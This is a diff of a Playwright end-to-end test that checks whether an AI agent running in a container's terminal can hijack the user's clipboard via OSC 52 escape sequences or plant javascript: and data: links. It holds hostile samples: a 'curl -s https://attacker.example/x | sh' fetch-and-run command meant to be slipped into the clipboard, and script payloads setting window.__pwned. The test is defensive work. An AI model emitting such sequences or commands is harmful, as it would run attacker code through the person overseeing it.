@@ -19,45 +19,36 @@ import pytest
 from playwright.sync_api import Browser, Dialog, expect
 
 from tests.e2e.test_webui_terminal_links import point
-from tests.e2e.webui_browser import open_terminal, watched
-from tests.integration.test_transcript_containment import start_session
+from tests.e2e.webui_browser import agent_terminal, to_terminals
 from tests.support.appliance import Appliance
-from tests.support.hostile import agent_argv
 
 pytestmark = pytest.mark.e2e
 
 PASTED = "curl -s https://attacker.example/x | sh"
-#: OSC 52 for each selection spelling, then links to a script and a page of the agent's, to
-#: every terminal device the agent may write: the console's.
+#: OSC 52 for each selection spelling, then links to a script and a page of the agent's.
 WRITE = r"""
-clip() {
   printf '\033]52;c;%s\007\033]52;;%s\033\\\033]52;p;%s\007' "$1" "$1" "$1"
   printf '\033]8;;javascript:window.__pwned=1\033\\js-docs\033]8;;\033\\\r\n'
   printf '\033]8;;data:text/html,<script>opener.__pwned=1</script>\033\\data-docs\033]8;;\033\\\r\n'
   printf 'clip-done\r\n'
-}
-for t in /dev/pts/[0-9]*; do if [ -w "$t" ]; then clip "$1" > "$t"; fi; done
 """
 
 
 def test_the_agent_reaches_no_clipboard_and_runs_no_link_of_its_own(
         browser: Browser, appliance: Appliance, repo: Path) -> None:
-    http = appliance.http(timeout=15)
-    session, container = start_session(appliance, http, repo, "claude")
     native: list[str] = []
 
     def answer(d: Dialog) -> None:
         native.append(d.message)
         d.dismiss()
 
-    with watched(browser, appliance) as desk:
+    with agent_terminal(browser, appliance, repo) as (desk, container):
         page = desk.page
         desk.context.grant_permissions(["clipboard-read", "clipboard-write"])
         page.on("dialog", answer)
-        open_terminal(page, session["name"])
         page.evaluate("navigator.clipboard.writeText('persons-own')")
         encoded = base64.b64encode(PASTED.encode()).decode()
-        agent_argv(container, ["sh", "-c", WRITE, "sh", encoded])
+        to_terminals(container, WRITE, encoded)
         expect(page.locator(".xterm-rows")).to_contain_text("clip-done")
         for words in ("js-docs", "data-docs"):
             x, y = point(page, words)
@@ -68,4 +59,3 @@ def test_the_agent_reaches_no_clipboard_and_runs_no_link_of_its_own(
         assert page.evaluate("window.__pwned") is None
         expect(page.get_by_test_id("leave")).to_have_count(0)
         assert native == [] and len(desk.context.pages) == 1, native
-        assert desk.errors == [], desk.errors
